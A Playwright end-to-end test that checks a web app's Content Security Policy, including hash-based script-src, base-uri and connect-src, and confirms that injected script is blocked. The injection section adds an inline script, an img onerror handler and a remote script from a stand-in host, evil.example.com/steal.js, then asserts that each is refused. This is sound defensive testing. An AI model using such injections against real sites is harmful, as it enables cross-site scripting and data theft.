/**
 * The built app's Content Security Policy (issue 21, decision 0035): the app runs under it with
 * no violation of its own (the route preload script by its hash, styles, the dialogs' and toasts'
 * inserted styles, calls to the configured services), and script injected into the page is
 * refused: an inline script, an inline event handler, a script from another origin.
 */
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { BUSINESS_API } from './tools-support';

/** Gives `email` early access (the sandbox's admin call adds it to GET white_list_emails/). */
async function grantEarlyAccess(email: string): Promise<void> {
  const response = await fetch(`${BUSINESS_API}/__sandbox/early-access`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ email }),
  });
  expect(response.status, 'early access through the sandbox').toBe(201);
}

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
}

/** Records every securitypolicyviolation event from the page's start (an init script is not subject to the policy). */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: { directive: string; blocked: string; sample: string }[] = [];
    (window as unknown as { __violations: typeof seen }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample });
    });
  });
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);

test('the app runs under its policy and injected script is refused', async ({ page, owner }) => {
  await grantEarlyAccess(owner.email);
  await recordViolations(page);
  await page.goto('/sign-in');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("script-src 'self' 'sha256-");
  expect(policy).not.toContain("script-src 'self' 'unsafe-inline'");
  expect(policy).toContain("base-uri 'self'");
  expect(policy).toMatch(/connect-src 'self' http:\/\/127\.0\.0\.1:4001 /);

  // Signed in through the page, then a page with a list and a dialog (Radix inserts styles).
  await page.getByRole('textbox', { name: 'Email' }).fill(owner.email);
  await page.getByRole('textbox', { name: 'Password' }).fill(owner.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page).toHaveURL(/\/(businesses|b\/\d+)/);
  await page.goto(`/b/${owner.businessId}/customers`);
  await expect(page.getByRole('heading', { level: 1, name: 'Customers' })).toBeVisible();
  await page
    .getByRole('button', { name: /add customer/i })
    .first()
    .click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toBeHidden();
  expect(await violations(page)).toEqual([]);

  // Injected script: refused, and reported.
  await page.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = 'window.__pwned = "inline script"';
    document.body.append(inline);
    const handler = document.createElement('img');
    handler.setAttribute('onerror', 'window.__pwned = "event handler"');
    handler.src = 'data:,not-an-image';
    document.body.append(handler);
    const remote = document.createElement('script');
    remote.src = 'https://evil.example.com/steal.js';
    document.body.append(remote);
  });
  await expect
    .poll(async () => (await violations(page)).map((v) => v.directive).sort())
    .toEqual(['script-src-attr', 'script-src-elem', 'script-src-elem']);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();

  // The app still runs: code loaded on demand (the command palette, early access) and navigation.
  await page.keyboard.press('Control+k');
  const palette = page.getByRole('combobox', { name: 'Go to or do' });
  await expect(palette).toBeFocused();
  await palette.fill('invoices');
  await expect(page.getByRole('option', { name: /^Invoices/ })).toBeVisible();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { level: 1, name: 'Invoices' })).toBeVisible();
  await page.keyboard.press('?');
  await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toBeHidden();
});
